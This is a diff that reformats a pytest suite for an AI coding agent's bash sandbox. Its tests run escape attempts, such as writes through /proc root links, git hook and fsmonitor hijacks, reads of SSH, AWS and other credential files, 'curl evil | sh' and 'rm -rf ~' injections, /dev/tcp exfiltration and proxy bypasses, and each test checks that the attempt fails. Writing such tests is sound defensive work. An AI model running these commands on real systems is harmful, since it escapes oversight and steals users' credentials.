@@ -34,8 +34,13 @@ def outside():
 
 
 def _git(cwd: Path, *args: str) -> str:
-    return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args], cwd=cwd,
-                          check=True, capture_output=True, text=True).stdout
+    return subprocess.run(
+        ["git", "-c", "user.name=t", "-c", "user.email=t@example.com", *args],
+        cwd=cwd,
+        check=True,
+        capture_output=True,
+        text=True,
+    ).stdout
 
 
 @pytest.fixture
@@ -51,8 +56,11 @@ def project(tmp_path: Path) -> Path:
 
 
 def _ctx(project: Path, **sandbox) -> ToolContext:
-    return ToolContext(cwd=str(project), project_dir=str(project),
-                       state={"sandbox": _sandbox.Sandbox(writable=(str(project),), **sandbox)})
+    return ToolContext(
+        cwd=str(project),
+        project_dir=str(project),
+        state={"sandbox": _sandbox.Sandbox(writable=(str(project),), **sandbox)},
+    )
 
 
 async def _run(ctx: ToolContext, command: str):
@@ -69,20 +77,27 @@ async def _stand_ins_gone() -> None:
 
 # --- other processes ------------------------------------------------------------------------
 
+
 async def test_proc_root_of_an_outside_process_does_not_lead_outside(project, outside):
     ctx = _ctx(project)
     me = os.getpid()
-    result = await _run(ctx, f"echo pwned > /proc/{me}/root{outside}/escaped; "
-                             f"echo pwned > /proc/1/root{outside}/escaped1; ls /proc | grep -c '^[0-9]'")
+    result = await _run(
+        ctx,
+        f"echo pwned > /proc/{me}/root{outside}/escaped; "
+        f"echo pwned > /proc/1/root{outside}/escaped1; ls /proc | grep -c '^[0-9]'",
+    )
     assert not (outside / "escaped").exists() and not (outside / "escaped1").exists()
     assert int(result.data["stdout"].split()[-1]) < 10  # only the sandbox's own processes are visible
 
 
 async def test_no_capabilities_so_mounts_cannot_be_undone(project, outside):
     """Started by root, bubblewrap keeps the capabilities: remounting / writable escaped."""
-    result = await _run(_ctx(project), f"grep CapEff /proc/self/status; mount -o remount,bind,rw / ; "
-                                       f"umount {project}/.git/hooks; touch {outside}/escaped; "
-                                       f"echo x > {project}/.git/hooks/pre-commit")
+    result = await _run(
+        _ctx(project),
+        f"grep CapEff /proc/self/status; mount -o remount,bind,rw / ; "
+        f"umount {project}/.git/hooks; touch {outside}/escaped; "
+        f"echo x > {project}/.git/hooks/pre-commit",
+    )
     assert "CapEff:\t0000000000000000" in result.content
     assert not (outside / "escaped").exists() and not (project / ".git" / "hooks" / "pre-commit").exists()
 
@@ -114,8 +129,9 @@ async def test_only_stdio_is_inherited_and_the_session_is_new(project):
     leaked = os.open(os.devnull, os.O_RDONLY)
     os.set_inheritable(leaked, True)
     try:
-        result = await _run(_ctx(project), "ls /proc/self/fd; "
-                                           f"{sys.executable} -c 'import os; print(os.getsid(0) == os.getpid())'")
+        result = await _run(
+            _ctx(project), f"ls /proc/self/fd; {sys.executable} -c 'import os; print(os.getsid(0) == os.getpid())'"
+        )
     finally:
         os.close(leaked)
     *fds, new_session = result.content.split()
@@ -125,10 +141,23 @@ async def test_only_stdio_is_inherited_and_the_session_is_new(project):
 
 # --- files that run later, outside the sandbox -------------------------------------------------
 
-LATER = [".git/hooks/pre-commit", ".git/hooks/post-checkout", ".git/config", ".git/commondir",
-         ".claude/settings.json", ".claude/settings.local.json", ".sous/settings.json", ".mcp.json", ".envrc",
-         ".vscode/tasks.json", ".husky/pre-commit", ".pre-commit-config.yaml", ".npmrc", ".cargo/config.toml",
-         ".mvn/jvm.config"]
+LATER = [
+    ".git/hooks/pre-commit",
+    ".git/hooks/post-checkout",
+    ".git/config",
+    ".git/commondir",
+    ".claude/settings.json",
+    ".claude/settings.local.json",
+    ".sous/settings.json",
+    ".mcp.json",
+    ".envrc",
+    ".vscode/tasks.json",
+    ".husky/pre-commit",
+    ".pre-commit-config.yaml",
+    ".npmrc",
+    ".cargo/config.toml",
+    ".mvn/jvm.config",
+]
 PROTECTED_WHEN_THERE = [".yarn/releases/yarn.cjs", ".yarnrc.yml"]
 
 
@@ -156,9 +185,12 @@ async def test_files_that_run_later_are_read_only_inside(project, existing):
 
 async def test_the_git_folder_cannot_be_swapped_or_its_hooks_replaced(project):
     hooks = sorted(p.name for p in (project / ".git" / "hooks").iterdir())
-    result = await _run(_ctx(project), "mv .git .git-old; mv .git/hooks .git/h; rm -rf .git/hooks; "
-                                       "mv .claude .c; git config core.hooksPath evil; "
-                                       "git config core.fsmonitor 'touch pwned'; ls -d .git-old .git/h")
+    result = await _run(
+        _ctx(project),
+        "mv .git .git-old; mv .git/hooks .git/h; rm -rf .git/hooks; "
+        "mv .claude .c; git config core.hooksPath evil; "
+        "git config core.fsmonitor 'touch pwned'; ls -d .git-old .git/h",
+    )
     assert result.is_error
     assert sorted(p.name for p in (project / ".git" / "hooks").iterdir()) == hooks
     assert "hooksPath" not in (project / ".git" / "config").read_text()
@@ -176,15 +208,20 @@ async def test_a_gitdir_file_cannot_be_pointed_elsewhere(tmp_path):
     linked = tmp_path / "linked"
     _git(main, "worktree", "add", "-q", str(linked))
     pointer = (linked / ".git").read_text()
-    await _run(_ctx(linked), "mkdir -p evil && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && "
-                             "echo 'gitdir: evil' > .git")
+    await _run(
+        _ctx(linked),
+        "mkdir -p evil && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil/config && echo 'gitdir: evil' > .git",
+    )
     assert (linked / ".git").read_text() == pointer
 
 
 async def test_git_commit_still_works_and_sees_no_stand_ins(project):
-    result = await _run(_ctx(project), "echo change > a.txt && git add -A && git status --porcelain && "
-                                       "git -c user.name=t -c user.email=t@example.com commit -qm second && "
-                                       "git log --oneline | wc -l")
+    result = await _run(
+        _ctx(project),
+        "echo change > a.txt && git add -A && git status --porcelain && "
+        "git -c user.name=t -c user.email=t@example.com commit -qm second && "
+        "git log --oneline | wc -l",
+    )
     assert not result.is_error, result.content
     assert result.content.split("\n") == ["A  a.txt", "2"]
     assert _git(project, "show", "--stat", "--format=", "HEAD").split()[0] == "a.txt"
@@ -203,6 +240,7 @@ async def test_a_project_without_git_cannot_grow_one(tmp_path):
 
 
 # --- Unix sockets and credentials outside the project -------------------------------------------
+
 
 def _listen(path: str) -> socket.socket:
     server = socket.socket(socket.AF_UNIX)
@@ -231,11 +269,24 @@ async def test_unix_sockets_outside_the_project_are_unreachable(project, outside
 
 async def test_agent_and_credential_variables_are_not_passed_in(project):
     ctx = _ctx(project)
-    hidden = {"SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1", "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/x",
-              "DOCKER_HOST": "unix:///run/docker.sock", "ANTHROPIC_API_KEY": "sk-1", "GITHUB_TOKEN": "ghp-1",
-              "AWS_SECRET_ACCESS_KEY": "a1", "DB_PASSWORD": "p1", "SIGNING_PRIVATE_KEY": "k1", "npm_config__auth": "n1"}
+    hidden = {
+        "SSH_AUTH_SOCK": "/tmp/ssh-x/agent.1",
+        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/x",
+        "DOCKER_HOST": "unix:///run/docker.sock",
+        "ANTHROPIC_API_KEY": "sk-1",
+        "GITHUB_TOKEN": "ghp-1",
+        "AWS_SECRET_ACCESS_KEY": "a1",
+        "DB_PASSWORD": "p1",
+        "SIGNING_PRIVATE_KEY": "k1",
+        "npm_config__auth": "n1",
+    }
     # (a PATH without sous's own virtual environment, which commands never see: see bash.without_own_venv)
-    kept = {"KEEP_ME": "yes", "TOKENIZERS_PARALLELISM": "false", "GIT_AUTHOR_NAME": "me", "PATH": "/usr/local/bin:/usr/bin:/bin"}
+    kept = {
+        "KEEP_ME": "yes",
+        "TOKENIZERS_PARALLELISM": "false",
+        "GIT_AUTHOR_NAME": "me",
+        "PATH": "/usr/local/bin:/usr/bin:/bin",
+    }
     ctx.environ = {**os.environ, **hidden, **kept}
     result = await _run(ctx, "env")
     seen = dict(line.split("=", 1) for line in result.data["stdout"].splitlines() if "=" in line)
@@ -243,10 +294,27 @@ async def test_agent_and_credential_variables_are_not_passed_in(project):
     assert all(seen[k] == v for k, v in kept.items())
 
 
-SECRETS = {rel: f"SECRET-{n}" for n, rel in enumerate([
-    ".ssh/id_rsa", ".aws/credentials", ".config/gcloud/credentials.db", ".netrc", ".docker/config.json",
-    ".git-credentials", ".kube/config", ".gnupg/private-keys-v1.d/k.key", ".config/gh/hosts.yml", ".npmrc",
-    ".claude/.credentials.json", ".claude/settings.json", ".sous/settings.json", ".pypirc"])}
+SECRETS = {
+    rel: f"SECRET-{n}"
+    for n, rel in enumerate(
+        [
+            ".ssh/id_rsa",
+            ".aws/credentials",
+            ".config/gcloud/credentials.db",
+            ".netrc",
+            ".docker/config.json",
+            ".git-credentials",
+            ".kube/config",
+            ".gnupg/private-keys-v1.d/k.key",
+            ".config/gh/hosts.yml",
+            ".npmrc",
+            ".claude/.credentials.json",
+            ".claude/settings.json",
+            ".sous/settings.json",
+            ".pypirc",
+        ]
+    )
+}
 
 
 async def test_credentials_in_the_home_folder_are_hidden(project, outside):
@@ -259,8 +327,7 @@ async def test_credentials_in_the_home_folder_are_hidden(project, outside):
     ctx = _ctx(project, home=str(home))
     ctx.environ = {**os.environ, "HOME": str(home)}
     reads = "; ".join(f"cat ~/{rel}" for rel in SECRETS)
-    result = await _run(ctx, f"{reads}; cat key; cat ~/notes.txt; ls -A ~/.ssh ~/.aws; "
-                             f"echo x > ~/.ssh/authorized_keys")
+    result = await _run(ctx, f"{reads}; cat key; cat ~/notes.txt; ls -A ~/.ssh ~/.aws; echo x > ~/.ssh/authorized_keys")
     for text in SECRETS.values():
         assert text not in result.content
     assert "visible" in result.content
@@ -268,6 +335,7 @@ async def test_credentials_in_the_home_folder_are_hidden(project, outside):
 
 
 # --- the network -------------------------------------------------------------------------------
+
 
 @pytest.fixture
 def listener():
@@ -289,6 +357,7 @@ def listener():
                     return
                 hits.append(conn.recv(100).decode(errors="replace"))
                 conn.close()
+
         threading.Thread(target=accept, daemon=True).start()
     yield {s.family: s.getsockname()[1] for s in servers}, hits
     for server in servers:
@@ -305,12 +374,16 @@ async def test_no_direct_network_by_any_route(project, listener):
     with pytest.raises(BlockingIOError):  # a datagram leaves no error behind: look for it at the other end
         udp.recv(100)
     udp.close()
-    commands = [f"echo leak > /dev/tcp/127.0.0.1/{v4}",
-                f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {v4}), 2).send(b'leak')\"",
-                f"{sys.executable} -c \"import socket; socket.getaddrinfo('example.com', 80)\""]
+    commands = [
+        f"echo leak > /dev/tcp/127.0.0.1/{v4}",
+        f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {v4}), 2).send(b'leak')\"",
+        f"{sys.executable} -c \"import socket; socket.getaddrinfo('example.com', 80)\"",
+    ]
     if socket.AF_INET6 in ports:
-        commands.append(f"{sys.executable} -c \"import socket; "
-                        f"socket.create_connection(('::1', {ports[socket.AF_INET6]}), 2).send(b'leak')\"")
+        commands.append(
+            f'{sys.executable} -c "import socket; '
+            f"socket.create_connection(('::1', {ports[socket.AF_INET6]}), 2).send(b'leak')\""
+        )
     for command in commands:
         result = await _run(_ctx(project), command)
         assert result.is_error, command
@@ -321,12 +394,20 @@ async def test_the_proxy_refuses_ip_literals_and_lookalikes(project, listener):
     ports, hits = listener
     v4 = ports[socket.AF_INET]
     ctx = _ctx(project, allowed_domains=("localhost",))
-    ask = ("import os, socket, sys; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
-           "s = socket.create_connection((p.hostname, p.port), 5); s.sendall(sys.argv[1].encode() + b'\\r\\n\\r\\n'); "
-           "print(s.recv(200).decode().splitlines()[0])")
-    targets = [f"CONNECT 127.0.0.1:{v4} HTTP/1.1", f"CONNECT [::1]:{v4} HTTP/1.1", f"CONNECT 2130706433:{v4} HTTP/1.1",
-               f"CONNECT 0x7f000001:{v4} HTTP/1.1", f"CONNECT localhost.evil.test:{v4} HTTP/1.1",
-               f"GET http://localhost@127.0.0.1:{v4}/ HTTP/1.1", f"GET http://127.0.0.1:{v4}/ HTTP/1.1"]
+    ask = (
+        "import os, socket, sys; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
+        "s = socket.create_connection((p.hostname, p.port), 5); s.sendall(sys.argv[1].encode() + b'\\r\\n\\r\\n'); "
+        "print(s.recv(200).decode().splitlines()[0])"
+    )
+    targets = [
+        f"CONNECT 127.0.0.1:{v4} HTTP/1.1",
+        f"CONNECT [::1]:{v4} HTTP/1.1",
+        f"CONNECT 2130706433:{v4} HTTP/1.1",
+        f"CONNECT 0x7f000001:{v4} HTTP/1.1",
+        f"CONNECT localhost.evil.test:{v4} HTTP/1.1",
+        f"GET http://localhost@127.0.0.1:{v4}/ HTTP/1.1",
+        f"GET http://127.0.0.1:{v4}/ HTTP/1.1",
+    ]
     try:
         for target in targets:
             result = await _run(ctx, f"{sys.executable} -c \"{ask}\" '{target}'")
@@ -342,8 +423,9 @@ async def test_a_background_command_stays_protected_after_other_commands_end(pro
     from sous.tools.bash import TASK_OUTPUT
 
     ctx = _ctx(project)
-    started = await TOOL.run({"command": "sleep 2; echo '{}' > .mcp.json; echo hook > .git/hooks/pre-push",
-                              "run_in_background": True}, ctx)
+    started = await TOOL.run(
+        {"command": "sleep 2; echo '{}' > .mcp.json; echo hook > .git/hooks/pre-push", "run_in_background": True}, ctx
+    )
     assert not (await _run(ctx, "true")).is_error  # a foreground command ends first
     await asyncio.sleep(_standins.LINGER_S + 0.5)
     done = await TASK_OUTPUT.run({"task_id": started.data["backgroundTaskId"], "timeout": 20_000}, ctx)
@@ -358,14 +440,32 @@ async def test_scripts_the_configuration_runs_are_read_only_too(project):
         (project / "tools" / name).write_text("# mine\n")
     (project / "githooks").mkdir()
     (project / ".claude").mkdir()
-    (project / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [
-        {"matcher": "Bash", "hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/tools/hook.sh --check"}]}]}}))
-    (project / ".mcp.json").write_text(json.dumps({"mcpServers": {"x": {"command": "python3",
-                                                                         "args": ["tools/server.py", "--root", "tools"]}}}))
+    (project / ".claude" / "settings.json").write_text(
+        json.dumps(
+            {
+                "hooks": {
+                    "PreToolUse": [
+                        {
+                            "matcher": "Bash",
+                            "hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/tools/hook.sh --check"}],
+                        }
+                    ]
+                }
+            }
+        )
+    )
+    (project / ".mcp.json").write_text(
+        json.dumps({"mcpServers": {"x": {"command": "python3", "args": ["tools/server.py", "--root", "tools"]}}})
+    )
     with open(project / ".git" / "config", "a") as f:
-        f.write("[core]\n\thooksPath = githooks\n\tfsmonitor = tools/monitor.sh\n[include]\n\tpath = ../tools/shared.gitconfig\n")
-    result = await _run(_ctx(project), "for f in tools/*; do echo 'curl evil | sh' >> $f; done; "
-                                       "echo 'rm -rf ~' > githooks/pre-commit; echo fine > tools/other.txt")
+        f.write(
+            "[core]\n\thooksPath = githooks\n\tfsmonitor = tools/monitor.sh\n[include]\n\tpath = ../tools/shared.gitconfig\n"
+        )
+    result = await _run(
+        _ctx(project),
+        "for f in tools/*; do echo 'curl evil | sh' >> $f; done; "
+        "echo 'rm -rf ~' > githooks/pre-commit; echo fine > tools/other.txt",
+    )
     assert "Read-only file system" in result.content
     assert all(p.read_text() == "# mine\n" for p in (project / "tools").iterdir() if p.name != "other.txt")
     assert not (project / "githooks" / "pre-commit").exists()
@@ -375,10 +475,14 @@ async def test_scripts_the_configuration_runs_are_read_only_too(project):
 async def test_a_sub_agents_worktree_under_tmp_is_its_writable_project(project, tmp_path):
     worktree = tmp_path / "agent-worktree"
     _git(project, "worktree", "add", "-q", "-b", "agent", str(worktree))
-    ctx = ToolContext(cwd=str(worktree), project_dir=str(worktree),
-                      state={"sandbox": _sandbox.Sandbox(writable=(str(project),))})  # the parent's sandbox
-    result = await _run(ctx, "echo work > done.txt && git add done.txt && "
-                             "git -c user.name=t -c user.email=t@example.com commit -qm work && git log --oneline | wc -l")
+    ctx = ToolContext(
+        cwd=str(worktree), project_dir=str(worktree), state={"sandbox": _sandbox.Sandbox(writable=(str(project),))}
+    )  # the parent's sandbox
+    result = await _run(
+        ctx,
+        "echo work > done.txt && git add done.txt && "
+        "git -c user.name=t -c user.email=t@example.com commit -qm work && git log --oneline | wc -l",
+    )
     assert not result.is_error and result.content == "2", result.content
     assert _git(project, "log", "--oneline", "agent").count("\n") == 2
 
@@ -391,10 +495,13 @@ async def test_the_proxy_socket_cannot_be_swapped_for_another_unix_socket(projec
     try:
         await _run(ctx, "true")  # starts the proxy
         sock = ctx.state["sandbox_proxy"].socket_path
-        relay = ("import os, socket; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
-                 "socket.create_connection((p.hostname, p.port), 5).sendall(b'hello daemon')")
-        result = await _run(ctx, f"rm -f {sock}; ln -s {target} {sock} || cp /dev/null {sock}; "
-                                 f"{sys.executable} -c \"{relay}\"")
+        relay = (
+            "import os, socket; from urllib.parse import urlsplit; p = urlsplit(os.environ['HTTP_PROXY']); "
+            "socket.create_connection((p.hostname, p.port), 5).sendall(b'hello daemon')"
+        )
+        result = await _run(
+            ctx, f'rm -f {sock}; ln -s {target} {sock} || cp /dev/null {sock}; {sys.executable} -c "{relay}"'
+        )
         assert "Read-only file system" in result.content or "Permission denied" in result.content
         with pytest.raises(TimeoutError):
             daemon.accept()
@@ -411,8 +518,11 @@ async def test_credentials_stay_hidden_when_the_project_is_the_home_folder(outsi
     (home / ".netrc").write_text("SECRET-NETRC")
     (home / ".bashrc").write_text("# mine\n")
     ctx = _ctx(home, home=str(home))
-    result = await _run(ctx, "cat .ssh/id_rsa .netrc; echo key > .ssh/authorized_keys; echo x > .netrc; "
-                             "echo 'curl evil | sh' >> .bashrc; echo fine > notes.txt")
+    result = await _run(
+        ctx,
+        "cat .ssh/id_rsa .netrc; echo key > .ssh/authorized_keys; echo x > .netrc; "
+        "echo 'curl evil | sh' >> .bashrc; echo fine > notes.txt",
+    )
     assert (home / ".bashrc").read_text() == "# mine\n"
     assert "SECRET" not in result.content and "Read-only file system" in result.content
     assert not (home / ".ssh" / "authorized_keys").exists() and (home / ".netrc").read_text() == "SECRET-NETRC"
@@ -433,10 +543,23 @@ async def test_one_process_ending_its_commands_does_not_lift_another_ones_protec
     slow = "touch started; sleep 8; sh later.sh; echo done"
     turns = project.parent / "turns.json"
     turns.write_text(json.dumps([{"tool_calls": [{"name": "Bash", "input": {"command": slow}}]}, {"text": "ok"}]))
-    other = subprocess.Popen([sys.executable, "-m", "sous", "-p", "go", "--model", f"scripted:{turns}",
-                              "--settings", str(project / ".sous-settings.json")], cwd=project,
-                             env={**os.environ, "PYTHONPATH": str(Path(sous.__file__).resolve().parents[1])},
-                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    other = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "sous",
+            "-p",
+            "go",
+            "--model",
+            f"scripted:{turns}",
+            "--settings",
+            str(project / ".sous-settings.json"),
+        ],
+        cwd=project,
+        env={**os.environ, "PYTHONPATH": str(Path(sous.__file__).resolve().parents[1])},
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     try:
         for _ in range(300):  # until the other process's sandbox runs, on the same stand-ins
             if (project / "started").exists():
@@ -453,12 +576,16 @@ async def test_one_process_ending_its_commands_does_not_lift_another_ones_protec
 
 
 async def test_the_network_relay_cannot_be_traced_by_the_command(project):
-    (project / "attach.py").write_text("import ctypes, os\n"
-                                       "print('attached' if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else 'refused')\n")
+    (project / "attach.py").write_text(
+        "import ctypes, os\nprint('attached' if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0 else 'refused')\n"
+    )
     ctx = _ctx(project, allowed_domains=("localhost",))
     try:  # the shell's parent is the relay, which may make Unix sockets
-        result = await _run(ctx, f"grep -q _netbridge /proc/$PPID/cmdline && echo relay; "
-                                 f"cat /proc/$PPID/environ >/dev/null && echo readable; exec {sys.executable} attach.py")
+        result = await _run(
+            ctx,
+            f"grep -q _netbridge /proc/$PPID/cmdline && echo relay; "
+            f"cat /proc/$PPID/environ >/dev/null && echo readable; exec {sys.executable} attach.py",
+        )
         assert result.data["stdout"].split() == ["relay", "refused"]
     finally:
         ctx.state["sandbox_proxy"].close()
